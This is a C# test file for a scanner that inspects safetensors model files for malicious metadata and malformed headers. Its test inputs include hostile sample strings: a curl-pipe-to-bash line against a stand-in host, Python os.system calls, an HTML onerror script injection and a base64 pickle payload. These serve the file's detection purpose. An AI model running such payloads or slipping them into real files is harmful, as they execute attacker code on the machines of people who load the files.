using System.Buffers.Binary;
using System.Text;
using Lineage.Formats.Safetensors;
using Lineage.IO;
using Lineage.Security;
using Lineage.Security.Metadata;
using Lineage.Tests.Support;

namespace Lineage.Tests.Security;

public class SafetensorsScanTests
{
    private static FileReport Sample(string name) =>
        Scanner.Scan([Corpus.Path($"scanner/modelaudit/samples/safetensors/{name}.safetensors")]).Files.Single();

    [Theory]
    [InlineData("malicious_import", "LIN-META-001", "model_info")]
    [InlineData("multiple_patterns", "LIN-META-001", "init_code")]
    [InlineData("multiple_patterns", "LIN-META-002", "shell_hook")]
    [InlineData("multiple_patterns", "LIN-META-003", "cleanup_script")]
    [InlineData("obfuscated_metadata", "LIN-META-001", "encoded_payload")]
    [InlineData("obfuscated_metadata", "LIN-META-004", "hex_data")]
    [InlineData("script_injection", "LIN-META-003", "documentation")]
    [InlineData("script_injection", "LIN-META-003", "html_description")]
    [InlineData("shell_commands", "LIN-META-002", "cleanup")]
    [InlineData("shell_commands", "LIN-META-002", "setup_commands")]
    [InlineData("suspicious_url", "LIN-META-005", "callback_url")]
    [InlineData("suspicious_url", "LIN-META-005", "download_url")]
    public void Metadata_payload_samples_are_reported_with_key_and_offset(string sample, string rule, string key)
    {
        var report = Sample(sample);
        Assert.Equal(FileStatus.Scanned, report.Status);
        var f = Assert.Single(report.Findings, f => f.Rule == rule && f.Message.Contains($"'{key}'", StringComparison.Ordinal));
        byte[] bytes = File.ReadAllBytes(report.Path);
        Assert.Equal($"\"{key}\"", Encoding.UTF8.GetString(bytes, (int)f.Offset!.Value, key.Length + 2));
    }

    [Fact]
    public void Payload_samples_fail_at_the_default_threshold_and_urls_alone_do_not()
    {
        foreach (var name in (string[])["malicious_import", "multiple_patterns", "obfuscated_metadata", "script_injection", "shell_commands"])
            Assert.True(Sample(name).HighestSeverity >= Severity.Medium, name);
        Assert.Equal(Severity.Low, Sample("suspicious_url").HighestSeverity);
    }

    [Fact]
    public void Safe_sample_and_real_metadata_are_clean()
    {
        Assert.Empty(Sample("safe_model").Findings);
        var real = SafetensorsReader.Write([("w", "F32", [1], new byte[4])], new Dictionary<string, string> { ["format"] = "pt" });
        using var source = new MemoryByteSource("real.safetensors", real);
        var report = new Scanner().ScanSource(source, "real.safetensors");
        Assert.Equal(FileStatus.Scanned, report.Status);
        Assert.Empty(report.Findings);
    }

    private static byte[] WithHeader(string json, int dataBytes)
    {
        var j = Encoding.UTF8.GetBytes(json);
        var bytes = new byte[8 + j.Length + dataBytes];
        BinaryPrimitives.WriteUInt64LittleEndian(bytes, (ulong)j.Length);
        j.CopyTo(bytes, 8);
        return bytes;
    }

    [Theory]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}""", 12, "overlaps")]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 16, "trailing")]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}""", 16, "hole")]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}""", 16, "duplicate")]
    public void Header_anomalies_are_findings_with_offsets_and_fail_closed(string header, int dataBytes, string expected)
    {
        using var source = new MemoryByteSource("bad.safetensors", WithHeader(header, dataBytes));
        var report = new Scanner().ScanSource(source, "bad.safetensors");
        Assert.Equal(FileStatus.Error, report.Status);
        var f = Assert.Single(report.Findings);
        Assert.Equal("LIN-ST-001", f.Rule);
        Assert.Contains(expected, f.Message, StringComparison.OrdinalIgnoreCase);
        Assert.NotNull(f.Offset);
        Assert.Equal(ScanOutcome.Error, new ScanReport([report]).Outcome(Severity.Critical));
    }

    [Fact]
    public void Metadata_is_still_inspected_when_the_header_is_invalid()
    {
        string header = """{"__metadata__":{"x":"import os; os.system('id')"},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""";
        using var source = new MemoryByteSource("bad.safetensors", WithHeader(header, 12));
        var report = new Scanner().ScanSource(source, "bad.safetensors");
        Assert.Contains(report.Findings, f => f.Rule == "LIN-ST-001");
        Assert.Contains(report.Findings, f => f.Rule == "LIN-META-001");
        Assert.Equal(ScanOutcome.Findings, new ScanReport([report]).Outcome(Severity.Medium));
    }

    [Fact]
    public void A_header_length_beyond_the_cap_is_one_finding_at_byte_zero()
    {
        var bytes = new byte[32];
        BinaryPrimitives.WriteUInt64LittleEndian(bytes, 0x10_0000_0000);
        bytes[8] = (byte)'{';
        using var source = new MemoryByteSource("huge.safetensors", bytes);
        var report = new Scanner().ScanSource(source, "huge.safetensors");
        // The detector requires a plausible length, so such a file is not even called safetensors: it fails closed by name.
        Assert.Equal(FileStatus.Error, report.Status);
    }

    [Theory]
    [InlineData("Import this model with from_pretrained and evaluate it.")]
    [InlineData("Model eval (accuracy 94.5%) on the held-out split")]
    [InlineData("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")]
    [InlineData("pt")]
    [InlineData("MIT")]
    [InlineData("A small transformer model for text classification")]
    [InlineData("Trained on 8xA100 with lr=3e-4; see the system card for details")]
    [InlineData("{\"architectures\": [\"LlamaForCausalLM\"], \"torch_dtype\": \"bfloat16\"}")]
    [InlineData("1.2.3")]
    [InlineData("<s>")]
    public void Ordinary_metadata_strings_are_not_payloads(string value) => Assert.Empty(PayloadDetector.Inspect(value));

    [Theory]
    [InlineData("__import__('os').system('id')", "LIN-META-001")]
    [InlineData("from subprocess import Popen", "LIN-META-001")]
    [InlineData("curl -s https://x.example/p.sh | bash", "LIN-META-002")]
    [InlineData("<img src=x onerror=alert(1)>", "LIN-META-003")]
    [InlineData("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "LIN-META-004")]
    [InlineData("\u0080\u0004\u0095\u0010", "LIN-META-004")]
    [InlineData("hf_abcdefghijklmnopqrstuvwxyzABCDEFGH", "LIN-META-006")]
    public void Payload_kinds_are_recognised(string value, string rule) =>
        Assert.Contains(PayloadDetector.Inspect(value), h => h.Rule.Id == rule);
}
